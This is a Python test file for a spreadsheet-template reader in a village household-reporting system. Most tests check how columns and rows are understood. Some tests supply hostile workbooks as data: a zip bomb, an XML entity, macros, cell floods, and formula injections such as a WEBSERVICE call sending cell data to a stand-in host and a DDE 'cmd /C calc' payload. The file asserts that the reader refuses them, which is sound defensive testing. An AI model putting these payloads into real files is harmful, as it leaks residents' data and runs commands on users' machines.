"""What is understood of a department's template, and what is proposed: right on every layout, never wrong."""

import io
import zipfile

import pytest
from openpyxl import Workbook
from openpyxl.utils import get_column_letter

from lianfang.questions.rules import QuestionDefinition
from lianfang.reports.meanings import Vocabulary, catalogue
from lianfang.reports.tables import Meaning, TemplateFault, propose, read_template
from lianfang.reports.tests.department_files import daily
from lianfang.reports.tests.templates_made import CATALOGUE, MAKERS, QUESTIONS, UNKNOWN, VILLAGES, Paper

TEMPLATES = [maker() for maker in MAKERS]


def read(made):
    return read_template(made.data).sheet(made.sheet)


def first_and_last(rows):
    return (rows.start, rows.stop - 1)


# ---------- what may not come in ----------


def packed(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def parts_of(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def plain_template():
    paper = Paper()
    paper.put(1, 1, "村", "应排查", "已排查")
    paper.frame(1, 1, 5, 3)
    return paper.bytes()


def with_part(name, content):
    return packed({**parts_of(plain_template()), name: content})


def bomb():
    return with_part("xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * (120 << 20))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "not_a_workbook"),
        (b"name,count\n", "not_a_workbook"),
        (b"<html><table><tr><td>1</td></tr></table></html>", "old_format"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "old_format"),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "password"),
        (b"PK\x03\x04 and then nothing", "damaged"),
        (packed({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}), "not_a_workbook"),
        (packed({"mimetype": b"application/vnd.oasis", "content.xml": b"<x/>"}), "not_a_workbook"),
        (with_part("xl/vbaProject.bin", b"macro"), "macros"),
        (with_part("xl/worksheets/sheet1.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet/>'), "damaged"),
        (with_part("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row"), "damaged"),
        (plain_template()[:-200], "damaged"),
    ],
)
def test_what_is_no_template_is_refused_with_a_remedy(data, code):
    with pytest.raises(TemplateFault) as fault:
        read_template(data)
    assert fault.value.code == code
    assert fault.value.reason
    assert fault.value.remedy


def test_a_bomb_is_refused_before_it_is_unpacked():
    with pytest.raises(TemplateFault) as fault:
        read_template(bomb())
    assert fault.value.code == "too_large"


def test_an_empty_workbook_asks_nothing():
    with pytest.raises(TemplateFault) as fault:
        read_template(Paper().bytes())
    assert fault.value.code == "no_table"


def test_a_cell_at_the_far_corner_costs_nothing():
    paper = Paper()
    paper.put(1, 1, "村", "应排查", "已排查")
    paper.frame(1, 1, 5, 3)
    paper.sheet["XFD1048576"] = 1
    assert read_template(paper.bytes()).sheet("Sheet").row_kind == "village"


def test_a_million_formatted_rows_are_no_content():
    data = plain_template()
    sheet = parts_of(data)["xl/worksheets/sheet1.xml"]
    rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (at, at) for at in range(6, 60_000))
    found = read_template(
        with_part("xl/worksheets/sheet1.xml", sheet.replace(b"</sheetData>", rows + b"</sheetData>"))
    )
    assert len(found.sheet("Sheet").columns) == 3


# ---------- what is understood ----------


def each(check):
    return pytest.mark.parametrize("made", TEMPLATES, ids=lambda made: made.name)(check)


def test_there_are_enough_layouts():
    assert len(TEMPLATES) >= 24


@each
def test_what_one_row_is(made):
    assert read(made).row_kind == made.kind


@each
def test_where_the_header_and_the_rows_stand(made):
    sheet = read(made)
    if made.header:
        assert first_and_last(sheet.header_rows) == made.header
    if made.body:
        assert first_and_last(sheet.body_rows) == made.body
    assert sheet.example_rows == made.examples
    if made.footer:
        assert sheet.footer_row == made.footer


@each
def test_rows_that_are_named_and_rows_that_sum(made):
    sheet = read(made)
    if made.kind != "single":
        assert tuple(row.label for row in sheet.listed) == made.listed
    assert tuple(sorted(total.row for total in sheet.totals)) == made.totals


@each
def test_what_is_to_be_filled_in_around_the_table(made):
    found = tuple((blank.key, f"{get_column_letter(blank.column)}{blank.row}") for blank in read(made).blanks)
    assert found == made.blanks


@each
def test_sheets_of_words_are_left_alone(made):
    template = read_template(made.data)
    assert {name: template.sheet(name).is_fillable for name in made.left_alone} == dict.fromkeys(
        made.left_alone, False
    )


@pytest.mark.parametrize("known", [CATALOGUE, catalogue(QUESTIONS, VILLAGES)], ids=["own", "desk"])
@each
def test_every_column_means_what_it_means(made, known):
    """Also by the words of the desk: more synonyms must not make a wrong meaning."""
    sheet = read(made)
    proposals = propose(sheet, known)
    said = {sheet.columns[one.column].label: _plain(one.meaning) for one in proposals}
    assert said == {
        column.label: meaning for column, meaning in zip(sheet.columns, made.meanings, strict=True)
    }
    assert all(one.why for one in proposals)
    assert all((one.confidence < 0.6) == (one.meaning.kind == "unknown") for one in proposals)


def _plain(meaning):
    return UNKNOWN if meaning.kind == "unknown" else meaning


def test_subtotals_know_what_they_sum():
    made = next(one for one in TEMPLATES if one.name == "townships_merged_down_with_subtotals")
    sums = {total.row: total.sums for total in read(made).totals}
    assert sums == {3: (), 7: (4, 5, 6), 11: (8, 9, 10)}
    assert {row.label: row.within for row in read(made).listed}["大塘村"] == "司马冲镇"
    assert {row.label: row.within for row in read(made).listed}["新屋村"] == "龙田乡"


def test_what_nobody_has_asked_names_the_question_that_would():
    made = next(one for one in TEMPLATES if one.name == "legend_under_the_header")
    proposal = propose(read(made), CATALOGUE)[1]
    assert proposal.meaning.text == "应入园人数"
    assert "填报项" in proposal.why


def test_what_no_door_can_tell_asks_nothing():
    made = next(one for one in TEMPLATES if one.name == "one_row_for_the_unit")
    assert propose(read(made), CATALOGUE)[-1].meaning.text == ""


def test_what_must_not_be_collected_is_never_asked():
    made = next(one for one in TEMPLATES if one.name == "refused_columns")
    proposals = propose(read(made), CATALOGUE)
    assert [proposals[at].meaning.text for at in (1, 2)] == ["", ""]


def test_strict_and_prefixed_xml_is_read():
    """Some programs write <x:row> and other namespaces."""
    parts = parts_of(plain_template())
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    body = sheet[sheet.index("<worksheet") :]
    prefixed = body.replace("</", "</x:").replace("<", "<x:").replace("<x:/x:", "</x:")
    prefixed = prefixed.replace("xmlns=", "xmlns:x=")
    found = read_template(packed({**parts, "xl/worksheets/sheet1.xml": prefixed.encode()}))
    assert [column.path for column in found.sheet("Sheet").columns] == [("村",), ("应排查",), ("已排查",)]


def test_hidden_sheets_are_said():
    book = Workbook()
    paper = Paper("表", book)
    paper.put(1, 1, "村", "应排查")
    paper.frame(1, 1, 4, 2)
    book["Sheet"].sheet_state = "hidden"
    out = io.BytesIO()
    book.save(out)
    assert "Sheet" in read_template(out.getvalue()).notes[0]


def patched(part: str, before: bytes, after: bytes) -> bytes:
    """The daily table with some bytes of a part changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(daily())) as found, zipfile.ZipFile(out, "w") as made:
        for name in found.namelist():
            content = found.read(name)
            if name == part:
                assert before in content
                content = content.replace(before, after)
            made.writestr(name, content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
FAR_DOWN = b"<!--" + b"x" * 5000 + b"--><!DOCTYPE a [<!ENTITY a 'b'>]>"


@pytest.mark.parametrize(
    ("part", "before", "after"),
    [
        ("xl/styles.xml", b'numFmtId="0"', b'numFmtId="abc"'),
        (SHEET, b"<v>1</v>", b"<v>nan</v>"),
        (SHEET, b"<v>1</v>", b"<v>1e400</v>"),
        (SHEET, b'<row r="5"', b'<row r="1048577"'),
        (SHEET, b"<worksheet", FAR_DOWN + b"<worksheet"),
        ("xl/workbook.xml", b"<workbook", FAR_DOWN + b"<workbook"),
    ],
)
def test_a_workbook_that_no_program_writes_is_damaged_and_no_failure(part, before, after):
    with pytest.raises(TemplateFault) as fault:
        read_template(patched(part, before, after))
    assert fault.value.code == "damaged"


# ---------- words of departments that other layouts do not have ----------


def meant(title, headers, *, rows=()):
    """header → meaning, of a sheet with one header row."""
    paper = Paper()
    paper.put(1, 1, title)
    paper.merge(f"A1:{get_column_letter(max(2, len(headers)))}1")
    paper.put(2, 1, *headers)
    for at, row in enumerate(rows):
        paper.put(3 + at, 1, *row)
    paper.frame(2, 1, max(6, 2 + len(rows)), len(headers))
    sheet = read_template(paper.bytes()).sheet("Sheet")
    proposals = propose(sheet, catalogue(QUESTIONS, VILLAGES))
    return sheet, {sheet.columns[one.column].path: one for one in proposals}


def figure_said(proposal):
    return (proposal.meaning.kind, proposal.meaning.key, proposal.meaning.choice)


def test_a_title_behind_its_attachment_number_is_the_title():
    assert meant("附件2：外地返乡人员信息登记表", ("姓名", "性别"))[0].title == "外地返乡人员信息登记表"
    assert meant("民政局：关爱服务统计表（按村）", ("村", "户数"))[0].title == "民政局:关爱服务统计表(按村)"
    assert meant("填报单位：", ("村", "户数"))[0].title == ""


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ("应排查户", "due"),
        ("未排查户", "open"),
        ("核减户", "exempt"),
        ("其中：逾期户", "overdue"),
        ("应敲门户数", "due"),
        ("已敲门", "households"),
        ("敲门率(%)", "rate"),
        ("见面人数", "people"),
        ("Households due", "due"),
        ("Not met", "not_met"),
        ("People seen today", "people"),
    ],
)
def test_a_figure_is_known_by_what_people_call_it(header, key):
    _sheet, said = meant("日报表", ("村", header))
    found = list(said.values())[1]
    assert figure_said(found)[:2] == ("figure", key)


@pytest.mark.parametrize(
    "header", ["应排查人数", "本周新增返乡人数", "密接", "接种率", "书记姓名", "家属联系电话", "第一剂"]
)
def test_what_only_sounds_like_it_stays_unknown(header):
    _sheet, said = meant("疫苗接种日报表", ("村", header))
    assert list(said.values())[1].meaning.kind == "unknown"


def test_what_was_found_is_not_what_is_left():
    _sheet, said = meant("清积水统计", ("村", "发现积水户数", "未清积水户数"))
    assert [one.meaning.key for one in said.values()][1:] != ["water_left", "water_left"]
    assert figure_said(list(said.values())[2])[1] == "water_left"
    containers = QuestionDefinition(
        "containers", "household", "integer", "查看了几处积水容器", "plain", headers=("发现积水", "积水处数")
    )
    for header, kind in (("发现积水（户）", "unknown"), ("积水处数（处）", "question")):
        paper = Paper()
        paper.put(1, 1, "村", header)
        paper.frame(1, 1, 5, 2)
        sheet = read_template(paper.bytes()).sheet("Sheet")
        assert propose(sheet, catalogue((containers,), VILLAGES))[1].meaning.kind == kind


def test_the_unit_of_a_group_is_of_its_columns():
    paper = Paper()
    paper.put(1, 1, "村", "入户排查（户）")
    paper.merge("A1:A2", "B1:C1")
    paper.put(2, 2, "今日", "累计")
    paper.frame(1, 1, 5, 3)
    found = read_template(paper.bytes()).sheet("Sheet").columns
    assert [(one.path, one.unit) for one in found[1:]] == [
        (("入户排查", "今日"), "户"),
        (("入户排查", "累计"), "户"),
    ]


def test_a_share_by_the_numbers_of_its_columns():
    paper = Paper()
    paper.put(1, 1, "村", "已接种", "未接种", "接种率")
    paper.put(2, 1, "甲", "1", "2", "3=1/(1+2)")
    paper.frame(1, 1, 5, 4)
    sheet = read_template(paper.bytes()).sheet("Sheet")
    meaning = propose(sheet, CATALOGUE)[3].meaning
    assert meaning == Meaning("formula", text="quotient:1,1,2")
    words = Vocabulary("village", QUESTIONS)
    assert words.read(words.say(meaning, sheet), sheet) == meaning


def test_people_are_counted_by_their_doses():
    headers = ("村", "摸底人数", "接种0剂", "接种3剂及以上", "未接种人数")
    _sheet, said = meant("疫苗接种摸底表", headers)
    assert [figure_said(one)[1:] for one in list(said.values())[1:]] == [
        ("dose_count", ""),
        ("dose_count", "0"),
        ("dose_count", "3-"),
        ("dose_count", "0"),
    ]
    for title in ("狂犬疫苗接种统计", "60岁以上疫苗接种情况"):
        assert {one.meaning.kind for one in list(meant(title, headers)[1].values())[2:]} == {"unknown"}


def test_in_the_row_of_a_household_its_people_are_counted():
    headers = (
        "户主",
        "户籍人口",
        "60岁以上老人数",
        "是否常住",
        "走访日期",
        "房屋状况",
        "责任人",
        "网格员电话",
    )
    _sheet, said = meant("农户台账", headers)
    assert [figure_said(one) for one in list(said.values())[1:]] == [
        ("register", "is_registered_here", "true"),
        ("register", "age", "60-"),
        ("register", "is_living_here", ""),
        ("register", "visited_on", ""),
        ("question", "dwelling_state", ""),
        ("place", "answers", ""),
        ("unknown", "", ""),
    ]
    measures = [one.meaning.measure for one in said.values()]
    assert measures[1:4] == ["count", "count", "value"]


def test_places_side_by_side_ask_the_same_of_each():
    rows = [("应排查户数",), ("覆盖率",), ("消杀面积（㎡）",)]
    sheet, said = meant("进度表", ("项目", "杨梅村", "石羊村", "合计"), rows=rows)
    assert [column.place for column in sheet.columns[:3]] == ["杨梅村", "石羊村", ""]
    assert figure_said(said["应排查户数", "石羊村"])[:2] == ("figure", "due")
    assert said["应排查户数", "合计"].meaning.text == "sum:0,1"
    assert said["覆盖率", "合计"].meaning.kind == "unknown"  # a rate is no sum of rates
    assert said["消杀面积", "杨梅村"].meaning.kind == "unknown"


def test_a_reason_is_said_only_where_it_is_true():
    headers = ("村", "核酸采样人次", "布雷图指数", "填报人", "缺水户数", "村书记", "联系电话")
    reasons = [one.why for one in meant("日报表", headers)[1].values()][1:]
    assert "别的系统" in reasons[0]
    assert "公式" in reasons[1]
    assert "填表的人" in reasons[2]
    assert "填报项" in reasons[3]
    assert "工作人员" in reasons[4]
    assert all("上门也问不到" not in why for why in reasons[1:])


def test_a_second_table_on_the_sheet_is_said():
    paper = Paper()
    paper.put(1, 1, "村", "应排查户数")
    paper.frame(1, 1, 4, 2)
    assert read_template(paper.bytes()).notes == ()
    paper.put(6, 1, "表二")
    paper.put(7, 1, "村", "返乡人数")
    paper.frame(7, 1, 10, 2)
    assert "第7行" in read_template(paper.bytes()).notes[0]


def test_rows_that_are_schools_are_refused_with_what_to_do():
    paper = Paper()
    paper.put(1, 1, "学校名称", "学生人数")
    paper.frame(1, 1, 4, 2)
    with pytest.raises(TemplateFault) as fault:
        read_template(paper.bytes())
    assert "学校名称" in fault.value.reason
    assert "一个村" in fault.value.remedy


@pytest.mark.parametrize(
    "formula", ['WEBSERVICE("http://x.test/"&amp;C5)', "cmd|&apos; /C calc&apos;!A0", "_xlfn.IMAGE(C5)"]
)
def test_a_formula_that_would_send_residents_away_is_not_taken(formula):
    with pytest.raises(TemplateFault) as fault:
        read_template(patched(SHEET, b"<f>SUM(D5:D7)</f>", f"<f>{formula}</f>".encode()))
    assert fault.value.code == "reaches_out"


def test_a_formula_of_the_department_stays():
    assert read_template(patched(SHEET, b"<f>SUM(D5:D7)</f>", b"<f>IF(D5&gt;0,D5,0)</f>"))


def test_a_small_file_with_more_cells_than_any_template_is_not_read_to_its_end():
    row = b"<row>" + b"<c><v>1</v></c>" * 10_000 + b"</row>"
    with pytest.raises(TemplateFault) as fault:
        read_template(patched(SHEET, b"</sheetData>", row * 40 + b"</sheetData>"))
    assert fault.value.code == "too_many_cells"
    assert "300000" in fault.value.reason


def test_a_small_file_that_unpacks_to_millions_of_elements_is_too_large():
    with pytest.raises(TemplateFault) as fault:
        read_template(patched("xl/styles.xml", b"</styleSheet>", b"<a/>" * 1_000_001 + b"</styleSheet>"))
    assert fault.value.code == "too_large"


def test_a_row_can_be_a_grid():
    sheet, said = meant("网格走访进度表", ("所在村", "网格", "网格员", "应走访户数"))
    assert sheet.row_kind == "grid"
    found = [(one.meaning.kind, one.meaning.key) for one in said.values()]
    assert found == [("place", "village"), ("place", "grid"), ("place", "answers"), ("figure", "due")]
